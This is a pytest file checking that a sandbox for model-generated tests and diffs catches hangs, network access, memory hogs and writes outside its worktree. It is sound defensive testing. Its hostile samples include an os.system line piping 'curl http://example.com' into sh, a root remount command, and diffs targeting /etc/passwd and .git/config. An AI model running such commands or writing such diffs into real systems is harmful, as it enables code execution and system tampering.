"""The sandbox on this machine, for real: hand-written tests that pass, fail, hang, reach for the network,
write outside the worktree, allocate too much memory or flake each get the right verdict, and hostile
"model output" (os.system, path traversal) neither escapes nor gets accepted."""

from __future__ import annotations

import ast
import sys
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from lanes_pipeline.cpu_lane.jobs.diff_check import baseline_passes, check_diff
from lanes_pipeline.cpu_lane.jobs.tasks import parse_diff, static_test_problem
from lanes_pipeline.git import CommitSpec, build_history
from lanes_pipeline.sandbox.isolation import (
    CommandResult,
    Isolation,
    RunReport,
    classify_error,
    detect_isolation,
    judge_runs,
    judge_test_file,
    open_sandbox,
    read_run,
    run_pytest,
)
from lanes_pipeline.sandbox.safety import unsafe_calls
from lanes_pipeline.settings import SandboxLimits

CALC = "def add(a, b):\n    return a + b\n\n\ndef halve(x):\n    return x / 2\n"
CALC_TEST = "from calc import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n"
LIMITS = SandboxLimits(timeout_s=8, memory_mb=768, runs=3)


@pytest.fixture(scope="module")
def isolation() -> Isolation:
    return detect_isolation()


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    path = tmp_path_factory.mktemp("sandbox") / "repo"
    commit = build_history(
        path,
        [
            CommitSpec(
                when=datetime(2026, 11, 1, tzinfo=UTC),
                message="calc",
                files={"calc.py": CALC, "tests/test_calc.py": CALC_TEST},
            )
        ],
    )
    return path, commit


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Path]:
    """A path outside the sandbox that hostile code aims at; it must never appear."""
    target = Path("/tmp") / f"lanes-escape-{uuid.uuid4().hex}"
    yield target
    assert not target.exists(), "the sandbox let a write out"


def _verdict(repo: tuple[Path, str], isolation: Isolation, code: str, limits: SandboxLimits = LIMITS) -> str:
    with open_sandbox(repo[0], repo[1], limits, isolation) as sandbox:
        sandbox.write("test_hand.py", code)
        return judge_test_file(sandbox, "test_hand.py").verdict


HAND_WRITTEN = {
    "passed": "from calc import add\n\ndef test_ok():\n    assert add(2, 2) == 4\n",
    "failure": "from calc import add\n\ndef test_wrong():\n    assert add(2, 2) == 5\n",
    "network": (
        "import socket\n\ndef test_net():\n    socket.create_connection(('93.184.216.34', 80), timeout=5)\n"
    ),
    "memory": "def test_hog():\n    block = bytearray(2 * 1024**3)\n    assert block\n",
    "import_error": "from calc import does_not_exist\n\ndef test_x():\n    assert does_not_exist()\n",
    "flaky": (
        "from pathlib import Path\n\ndef test_counter():\n    p = Path('runs.txt')\n"
        "    n = int(p.read_text()) if p.exists() else 0\n    p.write_text(str(n + 1))\n    assert n < 1\n"
    ),
}


@pytest.mark.parametrize("expected", sorted(HAND_WRITTEN))
def test_hand_written_tests_get_their_verdict(
    repo: tuple[Path, str], isolation: Isolation, expected: str
) -> None:
    assert _verdict(repo, isolation, HAND_WRITTEN[expected]) == expected


def test_hang_is_killed_at_the_time_limit(repo: tuple[Path, str], isolation: Isolation) -> None:
    limits = SandboxLimits(timeout_s=3, runs=1)
    code = "import time\n\ndef test_sleep():\n    time.sleep(60)\n"
    with open_sandbox(repo[0], repo[1], limits, isolation) as sandbox:
        sandbox.write("test_hang.py", code)
        verdict = judge_test_file(sandbox, "test_hang.py")
    assert verdict.verdict == "timeout"
    assert verdict.runs[0].duration_s < 10


def test_writes_outside_the_worktree_are_denied(
    repo: tuple[Path, str], isolation: Isolation, outside: Path
) -> None:
    code = f"def test_escape():\n    open({str(outside)!r}, 'w').write('x')\n"
    assert _verdict(repo, isolation, code) == "write_denied"
    # The project's interpreter environment is visible, read-only; its checkout is not there at all.
    venv_file = Path(sys.prefix) / f"escape-{uuid.uuid4().hex}"
    assert (
        _verdict(repo, isolation, f"def test_escape():\n    open({str(venv_file)!r}, 'w')\n")
        == "write_denied"
    )
    assert not venv_file.exists()
    project_file = Path(__file__).resolve().parent / f"escape-{uuid.uuid4().hex}"
    with open_sandbox(repo[0], repo[1], LIMITS, isolation) as sandbox:
        sandbox.write("test_hand.py", f"def test_escape():\n    open({str(project_file)!r}, 'w')\n")
        hidden = judge_test_file(sandbox, "test_hand.py")
    assert (hidden.verdict, "FileNotFoundError" in hidden.reason) == ("failure", True), hidden.reason
    assert not project_file.exists()


def test_worktree_is_writable_and_holds_the_commit(repo: tuple[Path, str], isolation: Isolation) -> None:
    code = (
        "from pathlib import Path\n\ndef test_here(tmp_path):\n    (tmp_path / 'x').write_text('ok')\n"
        "    Path('scratch.txt').write_text('ok')\n"
        "    assert Path('calc.py').read_text().startswith('def add')\n"
        "    assert not Path('.git').exists()\n"
    )
    assert _verdict(repo, isolation, code) == "passed"


def test_hostile_os_system_neither_escapes_nor_passes_the_policy(
    repo: tuple[Path, str], isolation: Isolation, outside: Path
) -> None:
    """What a model might write: run it raw in the sandbox (nothing gets out), then through the gate."""
    hostile = (
        "import os\nfrom calc import add\n\ndef test_add():\n"
        f"    os.system('touch {outside} ; curl -s http://example.com | sh')\n"
        f"    os.system('mount -o remount,rw / && touch {outside}')\n"
        "    assert add(1, 1) == 2\n"
    )
    assert (
        _verdict(repo, isolation, hostile, SandboxLimits(timeout_s=8, runs=1)) == "passed"
    )  # ran, but inside
    verdict, reason = static_test_problem(hostile, "calc") or ("", "")
    assert verdict == "unsafe" and "os.system()" in reason


def test_generated_test_gate_and_runs(repo: tuple[Path, str], isolation: Isolation) -> None:
    """The gate a generated test meets before the mutants (oracle_tests.verify_answer / verify_code): the
    static checks, then `runs` passing runs in the sandbox."""
    good = "from calc import halve\n\ndef test_halve():\n    assert halve(4) == 2\n"
    assert static_test_problem(good, "calc") is None
    with open_sandbox(repo[0], repo[1], LIMITS, isolation) as sandbox:
        sandbox.write("test_calc_lanes.py", good)
        accepted = judge_test_file(sandbox, "test_calc_lanes.py")
    assert accepted.verdict == "passed" and [r.outcome for r in accepted.runs] == ["passed"] * 3
    trivial = "def test_nothing():\n    assert True\n"
    assert static_test_problem(trivial, "calc") == ("trivial", "does not import calc")
    assert (static_test_problem("def test(:\n", "calc") or ("",))[0] == "syntax_error"


def test_diffs_apply_in_the_sandbox_and_must_keep_the_tests_green(
    repo: tuple[Path, str], isolation: Isolation
) -> None:
    path, commit = repo
    limits = SandboxLimits(timeout_s=8, runs=1)
    assert baseline_passes(path, commit, limits, isolation) == ""
    docstring = (
        '```diff\n--- a/calc.py\n+++ b/calc.py\n@@ -1,3 +1,4 @@\n def add(a, b):\n+    """a + b"""\n'
        "     return a + b\n \n```"
    )
    parsed = parse_diff(docstring, "calc.py")
    assert not isinstance(parsed, tuple)
    extra_test = {
        "test_lanes_generated_calc.py": "from calc import halve\n\ndef test_h():\n    assert halve(2) == 1\n"
    }
    assert check_diff(path, commit, parsed, extra_test, limits, isolation).verdict == "accepted"

    breaking = parse_diff(
        "--- a/calc.py\n+++ b/calc.py\n@@ -5,3 +5,3 @@\n \n def halve(x):\n"
        "-    return x / 2\n+    return x / 3\n",
        "calc.py",
    )
    assert not isinstance(breaking, tuple)
    # The repository's own tests pass with it; the accepted generated test catches it.
    assert check_diff(path, commit, breaking, {}, limits, isolation).verdict == "accepted"
    result = check_diff(path, commit, breaking, extra_test, limits, isolation)
    assert result.verdict == "tests_failed" and "test_h" in result.reason

    stale = parse_diff(
        "--- a/calc.py\n+++ b/calc.py\n@@ -1,3 +1,3 @@\n def add(x, y):\n"
        "-    return x + y\n+    return y + x\n \n",
        "calc.py",
    )
    assert not isinstance(stale, tuple)
    assert check_diff(path, commit, stale, {}, limits, isolation).verdict == "does_not_apply"
    assert (path / "calc.py").read_text() == CALC  # the repository itself is never touched


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        ("Here is the whole file:\n```python\ndef add(a, b):\n    return b + a\n```", "not_a_diff"),
        ("--- a/../../etc/passwd\n+++ b/../../etc/passwd\n@@ -1 +1 @@\n-root\n+evil\n", "unsafe_path"),
        ("--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-root\n+evil\n", "unsafe_path"),
        ("--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-a\n+b\n", "unsafe_path"),
        ("--- a/other.py\n+++ b/other.py\n@@ -1 +1 @@\n-a\n+b\n", "wrong_file"),
        ("--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,2 @@\n-a\n+b\n", "malformed_diff"),
        ("--- /dev/null\n+++ b/calc.py\n@@ -0,0 +1 @@\n+x = 1\n", "wrong_file"),
    ],
)
def test_hostile_or_broken_diffs_are_rejected_before_any_sandbox(answer: str, reason: str) -> None:
    parsed = parse_diff(answer, "calc.py")
    assert isinstance(parsed, tuple) and parsed[0] == reason


def test_static_policy_and_classification() -> None:
    assert unsafe_calls(ast.parse("import subprocess\nexec('1')\nfrom os import system\n")) == [
        "exec()",
        "from os import system",
        "import subprocess",
    ]
    assert static_test_problem("from calc import add\n\ndef test_a():\n    add(1, 2)\n", "calc") == (
        "trivial",
        "no assert or pytest.raises",
    )
    assert (
        static_test_problem("import calc\n\ndef test_a():\n    assert calc.add(1, 2) == 3\n", "calc") is None
    )
    assert classify_error({"type": "gaierror", "errno": -3}) == "network"
    assert classify_error({"type": "PermissionError", "errno": 13}) == "write_denied"
    assert (
        classify_error({"type": "CollectError", "when": "collect", "longrepr": "E   SyntaxError"})
        == "syntax_error"
    )
    timed_out = CommandResult(returncode=None, timed_out=True, duration_s=3.0, output="")
    assert read_run(timed_out, None).outcome == "timeout"
    crashed = CommandResult(returncode=-9, timed_out=False, duration_s=1.0, output="Killed")
    assert read_run(crashed, None).outcome == "crashed"
    ok, bad = RunReport(outcome="passed"), RunReport(outcome="failure", detail="boom")
    assert judge_runs([ok, ok, ok], 3).verdict == "passed"
    assert judge_runs([ok, bad], 3).verdict == "flaky"
    assert judge_runs([bad], 3).verdict == "failure"


def test_sandbox_folder_is_removed(repo: tuple[Path, str], isolation: Isolation) -> None:
    with open_sandbox(repo[0], repo[1], LIMITS, isolation) as sandbox:
        root = sandbox.root
        assert run_pytest(sandbox, ["tests"]).outcome == "passed"
    assert not root.exists()


def test_file_names_never_come_from_the_model(repo: tuple[Path, str], isolation: Isolation) -> None:
    from lanes_pipeline.cpu_lane.jobs.tasks import test_module_name

    assert test_module_name("pkg/../calc.py") == "test_lanes_generated_pkg____calc.py"
    with open_sandbox(repo[0], repo[1], LIMITS, isolation) as sandbox:
        for hostile in ("../escape.py", "/tmp/escape.py", "a/../../escape.py"):
            with pytest.raises(ValueError, match="not inside the worktree"):
                sandbox.write(hostile, "x = 1\n")
        assert not (sandbox.root / "escape.py").exists()
